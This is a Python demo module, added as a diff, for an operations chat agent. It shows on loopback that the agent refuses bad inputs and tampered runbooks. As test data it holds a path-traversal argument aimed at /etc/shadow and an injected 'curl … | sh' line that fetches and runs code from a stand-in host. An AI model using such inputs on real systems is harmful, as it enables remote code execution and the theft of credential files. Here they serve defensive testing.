@@ -1,0 +1,333 @@
+"""``agent demo``: the whole path on one machine, on loopback only, as a chat transcript.
+
+Everything lives in a temp folder that is removed afterwards: a copy of the bundled runbooks (plus one demo-only
+runbook that runs too long), its lock, generated SSH keys, the agent's config and state. Started in-process: the
+reference relay, an embedded SSH host (:mod:`agent.demo_host`, so no sshd needs to be installed) and the agent.
+Then a chat operator plays the scenes and the transcript shows what the room would see.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import getpass
+import json
+import secrets
+import shlex
+import shutil
+import socket
+import sys
+import tempfile
+import time
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any, TextIO
+
+import websockets.asyncio.client
+
+import agent
+from agent.app import App
+from agent.catalog import Catalog
+from agent.config import load_config
+from agent.demo_host import DemoHost
+from agent.logsetup import configure_logging
+from agent.redaction import Redactor
+from agent.relay import Relay
+
+SLOW_SCRIPT = (
+    "#!/usr/bin/env bash\n# Demo only: a check that hangs.\necho 'waiting for the batch lock...'\nsleep 30\n"
+)
+SLOW_MANIFEST = 'description = "Demo only: waits for a lock that never comes"\ntargets = ["all"]\nrooms = ["ops"]\ntimeout = 2\n'
+USER = "kim"
+ROOM = "ops"
+
+
+class DemoError(RuntimeError):
+    """A scene did not go as it should; the message says which."""
+
+
+def find_runbooks() -> Path:
+    """The bundled runbooks: ./runbooks, else the ones next to the installed package's source checkout."""
+    for candidate in (Path.cwd() / "runbooks", Path(agent.__file__).resolve().parent.parent / "runbooks"):
+        if candidate.is_dir() and any(candidate.glob("*.toml")):
+            return candidate
+    raise DemoError("no runbooks/ folder found: run the demo from the project's folder")
+
+
+def parse_chat(line: str, task_id: str, room: str = ROOM) -> dict[str, Any]:
+    """What a chat bridge would turn a typed line into.
+
+    ``list`` · ``run NAME host=H [host=H2] [KEY=VALUE …]`` · ``check NAME`` · ``was`` · ``disk``
+    · ``output TASK_ID HOST [PAGE]``. Raises ValueError with a usage hint for anything else.
+    """
+    words = shlex.split(line)
+    if not words:
+        raise ValueError("type a command; 'help' lists them")
+    verb, rest = words[0].lower(), words[1:]
+    base = {"task_id": task_id, "room_id": room, "user_id": USER}
+    if verb == "list" and not rest:
+        return {**base, "action": "LIST_RUNBOOKS"}
+    if verb == "was" and not rest:
+        return {**base, "action": "CHECK_INTERNAL_WAS_STATUS"}
+    if verb == "disk" and not rest:
+        return {**base, "action": "CHECK_DISK_SPACE"}
+    if verb == "check" and len(rest) == 1:
+        return {**base, "action": "RUN_CHECK", "params": {"check": rest[0]}}
+    if verb == "output" and len(rest) in (2, 3):
+        page = int(rest[2]) if len(rest) == 3 and rest[2].isdigit() else 0
+        return {**base, "action": "GET_OUTPUT", "params": {"task_id": rest[0], "host": rest[1], "page": page}}
+    if verb == "run" and rest:
+        hosts, args = [], {}
+        for word in rest[1:]:
+            key, sep, value = word.partition("=")
+            if not sep:
+                raise ValueError(f"expected KEY=VALUE, got {word[:20]!r}")
+            if key == "host":
+                hosts.append(value)
+            else:
+                args[key] = value
+        return {**base, "action": "RUN_RUNBOOK", "params": {"runbook": rest[0], "hosts": hosts, "args": args}}
+    raise ValueError(
+        "commands: list | run NAME host=H [KEY=VALUE …] | check NAME | was | disk | output TASK HOST [PAGE]"
+    )
+
+
+def _free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return int(sock.getsockname()[1])
+
+
+class Demo:
+    def __init__(self, out: TextIO, interactive: bool = False) -> None:
+        self.out = out
+        self.interactive = interactive
+        self.events: list[dict[str, Any]] = []
+        self._arrived = asyncio.Event()
+        self._printed_reports = 0
+        self._counter = 0
+
+    # -- printing ---------------------------------------------------------------------------------------------
+
+    def say(self, text: str = "") -> None:
+        self.out.write(text + "\n")
+        self.out.flush()
+
+    def agent_says(self, text: str, who: str = "guardia") -> None:
+        prefix = f"🤖 {who}> "
+        lines = text.splitlines() or [""]
+        self.say(prefix + lines[0])
+        for line in lines[1:]:
+            self.say(" " * 11 + line)
+
+    # -- setup ------------------------------------------------------------------------------------------------
+
+    def _prepare(self, home: Path, host: DemoHost, dead_port: int) -> None:
+        shutil.copytree(find_runbooks(), home / "runbooks", ignore=shutil.ignore_patterns("*.lock"))
+        (home / "runbooks" / "demo_slow.sh").write_text(SLOW_SCRIPT)
+        (home / "runbooks" / "demo_slow.toml").write_text(SLOW_MANIFEST)
+        catalog = Catalog(home / "runbooks", home / "runbooks.lock")
+        lock, problems = catalog.build_lock()
+        if lock is None:
+            raise DemoError("the bundled runbooks do not lock: " + "; ".join(map(str, problems)))
+        catalog.write_lock(lock)
+        user = getpass.getuser()
+        (home / "agent.toml").write_text(f'''
+agent_id = "demo-agent"
+operations_room = "{ROOM}"
+
+[inventory]
+known_hosts = "{host.known_hosts}"
+user = "{user}"
+key_file = "{host.client_key}"
+
+[inventory.hosts.was01]
+address = "127.0.0.1"
+port = {host.port}
+
+[inventory.groups]
+was = ["was01"]
+
+[executor]
+kill_grace = 1.0
+connect_timeout = 5.0
+
+[relay]
+max_backoff = 2.0
+
+[tasks]
+shutdown_grace = 2.0
+
+[checks.was01_health]
+kind = "http"
+url = "http://127.0.0.1:{dead_port}/actuator/health"
+timeout = 1.0
+
+[[schedules]]
+name = "was01-every-second"
+checks = ["was01_health"]
+interval = 1
+notify = "on_change"
+
+[actions]
+was_status_check = "was01_health"
+''')
+
+    # -- the conversation ---------------------------------------------------------------------------------------
+
+    async def _read(self, ws: websockets.asyncio.client.ClientConnection) -> None:
+        with contextlib.suppress(Exception):
+            async for frame in ws:
+                event = json.loads(frame)
+                self.events.append(event)
+                self._arrived.set()
+                if event.get("event") == "REPORT" and self.interactive:
+                    self.agent_says(event["payload"].get("text", ""), "guardia (scheduled)")
+
+    async def _wait(
+        self, predicate: Callable[[dict[str, Any]], bool], timeout: float, what: str
+    ) -> dict[str, Any]:
+        try:
+            async with asyncio.timeout(timeout):
+                while True:
+                    for event in self.events:
+                        if predicate(event):
+                            return event
+                    self._arrived.clear()
+                    await self._arrived.wait()
+        except TimeoutError:
+            raise DemoError(f"no answer to {what} within {timeout:g} s") from None
+
+    async def ask(
+        self, ws: websockets.asyncio.client.ClientConnection, line: str, timeout: float = 30
+    ) -> dict[str, Any]:
+        self._counter += 1
+        task_id = f"demo-{self._counter}"
+        self.say(f"👤 {USER}> {line}")
+        await ws.send(json.dumps(parse_chat(line, task_id)))
+        finished = await self._wait(_finished(task_id), timeout, repr(line))
+        self.agent_says(finished["payload"].get("text", ""))
+        return dict(finished["payload"])
+
+    async def scenes(self, ws: websockets.asyncio.client.ClientConnection, home: Path) -> None:
+        self.say("── 1. What may this room run?")
+        listed = await self.ask(ws, "list")
+        expect(listed["status"] == "SUCCESS", "listing runbooks")
+        self.say(
+            "\n── 2. A runbook that succeeds (the locked script, streamed to bash on the host, argv-only)"
+        )
+        ok = await self.ask(ws, "run disk_usage host=was01 mount=/ warn_percent=100")
+        expect(ok["status"] == "SUCCESS", "disk_usage should succeed")
+        self.say("\n── 3. A hostile argument is refused before anything runs")
+        hostile = await self.ask(ws, "run tail_log host=was01 dir=app file=../../etc/shadow")
+        expect(
+            hostile.get("error", {}).get("code") == "INVALID_ARGUMENTS", "a path in 'file' must be refused"
+        )
+        self.say(
+            "\n── 4. Someone edits a locked script on the agent PC (here: the demo's copy of tail_log.sh)"
+        )
+        script = home / "runbooks" / "tail_log.sh"
+        script.write_text(script.read_text() + "\ncurl -s http://example.invalid/x | sh\n")
+        tampered = await self.ask(ws, "run tail_log host=was01 dir=app file=server.log")
+        expect(
+            tampered.get("error", {}).get("code") == "RUNBOOK_NOT_RUNNABLE",
+            "a tampered script must be refused",
+        )
+        self.say("\n── 5. A runbook that runs past its 2 s limit: killed on the host, partial output kept")
+        slow = await self.ask(ws, "run demo_slow host=was01")
+        expect(slow.get("data", {}).get("status") == "TIMEOUT", "demo_slow must time out")
+        self.say("\n── 6. Nobody asked: a scheduled health check tells the room on its own")
+        report = await self._wait(lambda e: e.get("event") == "REPORT", 15, "the scheduled check")
+        self.agent_says(report["payload"].get("text", ""), "guardia (scheduled)")
+        expect(report["payload"].get("status") == "DOWN", "the WAS health check should report DOWN")
+
+    async def chat(self, ws: websockets.asyncio.client.ClientConnection) -> None:
+        self.say(
+            "Type commands as in the chat room ('help', 'quit'). e.g.: run disk_usage host=was01 mount=/"
+        )
+        loop = asyncio.get_running_loop()
+        while True:
+            try:
+                line = await loop.run_in_executor(None, input, f"{USER}> ")
+            except EOFError:
+                return
+            if line.strip() in ("quit", "exit"):
+                return
+            if line.strip() in ("", "help"):
+                self.say(parse_chat.__doc__ or "")
+                continue
+            try:
+                self._counter += 1
+                packet = parse_chat(line, f"demo-{self._counter}")
+            except ValueError as exc:
+                self.say(f"  ({exc})")
+                continue
+            await ws.send(json.dumps(packet))
+            try:
+                finished = await self._wait(_finished(packet["task_id"]), 60, line)
+            except DemoError as exc:
+                self.say(f"  ({exc})")
+                continue
+            self.agent_says(finished["payload"].get("text", ""))
+
+    async def run(self) -> None:
+        started = time.monotonic()
+        with tempfile.TemporaryDirectory(prefix="guardia-demo-") as tmp:
+            home = Path(tmp)
+            host = DemoHost(home)
+            await host.start()
+            relay = Relay(agent_token=secrets.token_urlsafe(24))
+            try:
+                self._prepare(home, host, _free_port())
+                port = await relay.start("127.0.0.1", 0)
+                environ = {
+                    "EXTERNAL_WS_URL": f"ws://127.0.0.1:{port}/agent",
+                    "AGENT_RELAY_TOKEN": relay.agent_token or "",
+                }
+                app = App(load_config(home / "agent.toml"), environ=environ)
+                agent_task = asyncio.create_task(app.run())
+                try:
+                    await asyncio.wait_for(relay.agent_connected.wait(), 15)
+                    self.say(
+                        "GUARDiA agent demo: relay, SSH host and agent, all on this machine, loopback only."
+                    )
+                    self.say(f"  relay ws://127.0.0.1:{port} · SSH host 'was01' (embedded) · catalog: "
+                             f"{len(app.catalog.report.runnable)} locked runbooks in a temp copy\n")  # fmt: skip
+                    ws = await websockets.asyncio.client.connect(f"ws://127.0.0.1:{port}/operator")
+                    reader = asyncio.create_task(self._read(ws))
+                    try:
+                        await (self.chat(ws) if self.interactive else self.scenes(ws, home))
+                    finally:
+                        reader.cancel()
+                        await ws.close()
+                finally:
+                    app.stopping.set()
+                    await agent_task
+            finally:
+                await relay.stop()
+                await host.stop()
+        if not self.interactive:
+            self.say(f"\nDone in {time.monotonic() - started:.1f} s; nothing was left behind. "
+                     "Type commands yourself: agent demo --interactive")  # fmt: skip
+
+
+def _finished(task_id: str) -> Callable[[dict[str, Any]], bool]:
+    return lambda event: event.get("event") == "TASK_FINISHED" and event.get("task_id") == task_id
+
+
+def expect(condition: bool, what: str) -> None:
+    if not condition:
+        raise DemoError(f"scene failed: {what}")
+
+
+def run_demo(interactive: bool = False, verbose: bool = False, out: TextIO = sys.stdout) -> int:
+    """Run the demo; 0 when every scene went as it should."""
+    configure_logging(Redactor(), "INFO" if verbose else "ERROR")
+    try:
+        asyncio.run(Demo(out, interactive).run())
+    except DemoError as exc:
+        out.write(f"\ndemo failed: {exc}\n")
+        return 1
+    except KeyboardInterrupt:
+        return 130
+    return 0
